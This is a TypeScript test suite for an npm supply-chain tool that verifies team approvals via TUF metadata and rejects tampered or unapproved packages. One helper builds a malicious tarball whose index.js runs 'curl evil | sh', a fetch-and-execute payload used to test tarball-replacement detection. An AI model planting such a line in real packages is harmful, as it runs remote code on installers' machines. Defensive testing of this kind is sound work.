import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFile, rm, writeFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { buildPackageTarball, packumentFile, tarballFile } from '@tufpm/registry';
import { OVERLAY_APPROVAL_ROLE } from '@tufpm/verify';
import { readStaged, renewOnline } from '@tufpm/overlay';
import { captureDir, restoreDir } from '../src/harness/attacks-metadata.js';
import { isolatedEnv, run, type CliResult, type Project } from '../src/harness/npm-world.js';
import { refusedNpm as refused } from '../src/harness/attacks-graph.js';
import { OverlayWorld } from '../src/harness/overlay-world.js';

// Overlay mode (ADR 0017) with real npm/Arborist (tufpm-npm in a child process): the upstream is a loopback
// registry serving no TUF metadata, the team's approvals are served by a separate static server. Every
// refused install exits 1 with a coded error and leaves package.json, package-lock.json, tufpm-lock.json
// and node_modules as they were.

const evilTarball = (name: string, version: string): Uint8Array =>
  buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });

function ok(res: CliResult, what: string): void {
  assert.equal(res.code, 0, `${what}\n${res.stdout}${res.stderr}`);
}

/** A lockfile as a team has it today: plain npm against the upstream. */
async function lockWithPlainNpm(project: Project): Promise<string> {
  ok(await project.npm(['install', '--package-lock-only', '--ignore-scripts', '--no-audit', '--no-fund']), 'plain npm resolves the tree');
  return join(project.dir, 'package-lock.json');
}

async function approveTree(world: OverlayWorld, dependencies: Record<string, string>, reviewer = 0): Promise<CliResult> {
  const lockfile = await lockWithPlainNpm(await world.npmProject(dependencies));
  return world.overlay(['approve', '--lockfile', lockfile, '--key', world.reviewers[reviewer]!.file, '--json']);
}

describe('overlay mode: tufpm-npm against an upstream registry without TUF metadata', () => {
  let world: OverlayWorld;

  before(async () => {
    world = await OverlayWorld.create();
    await world.upstream.publishUnsigned('right', '1.0.0');
    await world.upstream.publishUnsigned('left', '1.0.0', { right: '^1.0.0' });
    await world.upstream.publishUnsigned('other', '1.0.0');
    // the upstream has more than the team approves
    await world.upstream.publishUnsigned('right', '1.1.0-beta.1');
    await world.upstream.publishUnsigned('stray', '1.0.0');
    const seed = await world.npmProject({ left: '^1.0.0', other: '1.0.0' });
    const lockfile = await lockWithPlainNpm(seed);
    const dry = await world.overlay(['approve', '--lockfile', lockfile, '--dry-run', '--json']);
    assert.equal(dry.code, 1, 'the pull-request check fails while packages are unapproved');
    assert.match(dry.stderr, /TUF_NOT_APPROVED/);
    assert.deepEqual((JSON.parse(dry.stdout) as { new: string[] }).new, ['left@1.0.0', 'other@1.0.0', 'right@1.0.0']);
    ok(await world.overlay(['approve', '--lockfile', lockfile, '--key', world.reviewers[0]!.file]), 'approve');
    const again = await world.overlay(['approve', '--lockfile', lockfile, '--dry-run', '--json']);
    ok(again, 'the check passes once approved');
    assert.deepEqual((JSON.parse(again.stdout) as { approved: string[] }).approved, ['left@1.0.0', 'other@1.0.0', 'right@1.0.0']);
  });
  after(() => world.close());

  test('an approved tree installs from the upstream, verified against the team\'s repository', async () => {
    const project = await world.npmProject({ left: '^1.0.0' });
    ok(await project.tufpmNpm(['install']), 'tufpm-npm install');
    // ^1.0.0 could take the upstream's 1.1.0-beta.1 only with a prerelease range; 1.0.0 is the approved one
    assert.match((await project.read('node_modules/right/package.json'))!, /"version": "1\.0\.0"/);
    const lock = JSON.parse((await project.read('tufpm-lock.json'))!) as { registry: string; packages: Record<string, { role: string }> };
    assert.equal(lock.registry, world.upstream.url);
    assert.equal(lock.packages['left@1.0.0']?.role, OVERLAY_APPROVAL_ROLE);
    await project.freshMachine();
    ok(await project.tufpmNpm(['ci']), 'tufpm-npm ci on a fresh machine');
  });

  test('tufpm-verify (the CI gate) checks an approved project against the team\'s repository named in its .npmrc', async () => {
    const project = await world.npmProject({ left: '^1.0.0' });
    ok(await project.tufpmNpm(['install']), 'tufpm-npm install');
    assert.match((await project.read('.npmrc'))!, /^tufpm-metadata-url=/m);
    await project.freshMachine();
    const verifyCli = join(dirname(createRequire(import.meta.url).resolve('@tufpm/cli')), 'main.js');
    // no --metadata-url: the gate reads it where tufpm-npm does (it used to ask the upstream: TUF_DOWNLOAD)
    const gate = await run(process.execPath, [verifyCli, '--json'], project.dir, isolatedEnv(project.machine));
    ok(gate, 'tufpm-verify');
    assert.deepEqual((JSON.parse(gate.stdout) as { packages: Array<{ name: string }> }).packages.map((p) => p.name).sort(), ['left', 'right']);
  });

  test('a new project starts trusting the team\'s repository with tufpm-npm init --root-sha256', async () => {
    const project = await world.npmProject({ left: '^1.0.0' });
    await rm(join(project.dir, 'tufpm-root.json'));
    await rm(join(project.dir, '.npmrc'));
    const sha256 = createHash('sha256').update(await readFile(world.rootFile)).digest('hex');
    const urls = ['--registry', world.upstream.url, '--tufpm-metadata-url', world.metadata.url];
    const wrong = await project.tufpmNpm(['init', ...urls, '--root-sha256', 'f'.repeat(64)]);
    assert.equal(wrong.code, 1);
    assert.match(wrong.stderr, /TUF_NO_TRUSTED_ROOT/);
    ok(await project.tufpmNpm(['init', ...urls, '--root-sha256', sha256]), 'init with the root sha256 from tufpm-overlay init');
    assert.equal(await project.read('tufpm-root.json'), await readFile(world.rootFile, 'utf8'));
    const npmrc = (await project.read('.npmrc'))!;
    assert.match(npmrc, new RegExp(`registry=${world.upstream.url}`));
    assert.match(npmrc, new RegExp(`tufpm-metadata-url=${world.metadata.url}`));
    ok(await project.tufpmNpm(['install']), 'install with what init wrote');
  });

  test('rejects an unapproved package before downloading anything', async () => {
    const project = await world.npmProject({ left: '^1.0.0' });
    const res = await refused(project, ['install', 'stray'], /TUF_NOT_APPROVED/, /package: +stray\b/, /tufpm-overlay approve/);
    assert.match(res.stderr, /attack: +unapproved package/);
  });

  test('rejects an unapproved version pinned in the lockfile (a pull request edits package-lock.json)', async () => {
    const project = await world.npmProject({ right: '1.1.0-beta.1' });
    await lockWithPlainNpm(project);
    // the project's pins (a frozen install refuses a project without them, ADR 0015)
    ok(await project.tufpmNpm(['init']), 'tufpm-npm init');
    await refused(project, ['ci'], /TUF_NOT_APPROVED/, /package: +right@1\.1\.0-beta\.1/);
  });

  test('rejects an exact unapproved version the upstream has (install pkg@version) with the approve command, not ETARGET', async () => {
    const project = await world.npmProject({});
    const res = await refused(project, ['install', 'right@1.1.0-beta.1'], /TUF_NOT_APPROVED/, /package: +right@1\.1\.0-beta\.1/, /tufpm-overlay approve/);
    assert.doesNotMatch(res.stderr, /ETARGET/);
    // the same ask written into package.json
    const edited = await world.npmProject({ right: '1.1.0-beta.1' });
    await refused(edited, ['install'], /TUF_NOT_APPROVED/, /right@1\.1\.0-beta\.1/);
    // an approved exact version still installs
    ok(await project.tufpmNpm(['install', 'right@1.0.0']), 'install right@1.0.0');
  });

  test('rejects an approved version whose tarball the upstream replaced', async () => {
    const project = await world.npmProject({ left: '^1.0.0' });
    ok(await project.tufpmNpm(['install']), 'install before the attack');
    await project.freshMachine();
    const saved = await readFile(tarballFile(world.upstream.registryDir, 'right/-/right-1.0.0.tgz'));
    await world.upstream.replaceTarball('right', '1.0.0', evilTarball('right', '1.0.0'));
    try {
      await refused(project, ['ci'], /TUF_TARBALL_MISMATCH/, /package: +right@1\.0\.0/);
    } finally {
      await world.upstream.replaceTarball('right', '1.0.0', saved);
    }
  });

  test('rejects a dependency the upstream added to the packument of an approved version', async () => {
    const file = packumentFile(world.upstream.registryDir, 'right');
    const saved = await readFile(file);
    await world.upstream.addPackumentDependency('right', '1.0.0', 'other', '^1.0.0');
    try {
      const project = await world.npmProject({ left: '^1.0.0' });
      await refused(project, ['install'], /TUF_EXTRANEOUS_DEPENDENCY/, /right@1\.0\.0/);
    } finally {
      await writeFile(file, saved);
    }
  });

  test('rejects an approval rolled back to an older snapshot', async () => {
    await world.upstream.publishUnsigned('late', '1.0.0');
    const before = await captureDir(world.paths.metadataDir);
    const approved = await approveTree(world, { late: '1.0.0' });
    ok(approved, 'approve late');
    const project = await world.npmProject({ late: '1.0.0' });
    ok(await project.tufpmNpm(['install']), 'install under the newer approvals');
    const after = await captureDir(world.paths.metadataDir);
    // the metadata host (a CDN, a bucket) serves the state from before the approval
    await restoreDir(world.paths.metadataDir, before);
    try {
      await refused(project, ['ci'], /TUF_ROLLBACK|TUF_PIN_ROLLBACK/, /attack: +rollback/);
      await project.freshMachine();
      await refused(project, ['ci'], /TUF_PIN_ROLLBACK/, /attack: +rollback/);
    } finally {
      await restoreDir(world.paths.metadataDir, after);
    }
  });

  test('rejects an expired timestamp', async () => {
    const project = await world.npmProject({ left: '^1.0.0' });
    const monthAgo = new Date(Date.now() - 30 * 24 * 3600 * 1000);
    await renewOnline(await world.openRepository(monthAgo), 'timestamp');
    try {
      await refused(project, ['install'], /TUF_EXPIRED/, /attack: +freeze/);
    } finally {
      ok(await world.overlay(['timestamp']), 'the scheduled job renews the timestamp');
    }
    ok(await project.tufpmNpm(['install']), 'installs once the timestamp is renewed');
  });

  test('rejects a revoked approval on the next install', async () => {
    await world.upstream.publishUnsigned('victim', '1.0.0');
    ok(await approveTree(world, { victim: '1.0.0' }), 'approve victim');
    const project = await world.npmProject({ victim: '1.0.0' });
    ok(await project.tufpmNpm(['install']), 'installs while approved');
    const revoked = await world.overlay(['revoke', 'victim@1.0.0', '--key', world.reviewers[0]!.file]);
    ok(revoked, 'revoke');
    assert.match(revoked.stdout, /published approval role/);
    await refused(project, ['ci'], /TUF_NOT_APPROVED/, /package: +victim@1\.0\.0/);
    await project.freshMachine();
    await refused(project, ['ci'], /TUF_NOT_APPROVED/, /package: +victim@1\.0\.0/);
    const fresh = await world.npmProject({});
    await refused(fresh, ['install', 'victim'], /TUF_NOT_APPROVED/, /package: +victim\b/);
  });
});

describe('overlay mode: approvals need a threshold of reviewers', () => {
  let world: OverlayWorld;

  before(async () => {
    world = await OverlayWorld.create({ reviewers: 2, threshold: 2 });
    await world.upstream.publishUnsigned('pair', '1.0.0');
    await world.upstream.publishUnsigned('first', '1.0.0');
    // the team's first approval, co-signed: the served role is signed to threshold from here on
    ok(await approveTree(world, { first: '1.0.0' }, 0), 'first reviewer');
    ok(await world.overlay(['cosign', '--key', world.reviewers[1]!.file]), 'second reviewer');
  });
  after(() => world.close());

  test('rejects an approval signed by one reviewer of two (staged, and forged into the served metadata)', async () => {
    const staged = await approveTree(world, { pair: '1.0.0' }, 0);
    ok(staged, 'the first reviewer stages the approval');
    assert.equal((JSON.parse(staged.stdout) as { outcome: string }).outcome, 'staged');
    const project = await world.npmProject({ pair: '1.0.0' });
    await refused(project, ['install'], /TUF_NOT_APPROVED/, /package: +pair\b/);
    // Whoever holds the online keys (the CI job, or an attacker in it) serves the role with one signature.
    const role = (await readStaged(world.paths))!.role;
    const before = await captureDir(world.paths.metadataDir);
    const repo = await world.openRepository();
    await repo.transaction(async (r) => {
      r.delegated.set(OVERLAY_APPROVAL_ROLE, role);
      r.changed.add(OVERLAY_APPROVAL_ROLE);
      await repo.resignSnapshotAndTimestamp();
    }, { allowUnderThreshold: [OVERLAY_APPROVAL_ROLE] });
    await project.freshMachine();
    await refused(project, ['install'], /TUF_THRESHOLD/, /package: +pair\b/);
    await restoreDir(world.paths.metadataDir, before);
    // the second reviewer co-signs: the approval is published and installs
    const cosigned = await world.overlay(['cosign', '--key', world.reviewers[1]!.file]);
    ok(cosigned, 'cosign');
    assert.match(cosigned.stdout, /published approval role v\d+ \(2 of 2 reviewer signatures\)/);
    await project.freshMachine();
    ok(await project.tufpmNpm(['install']), 'installs once two reviewers signed');
  });
});
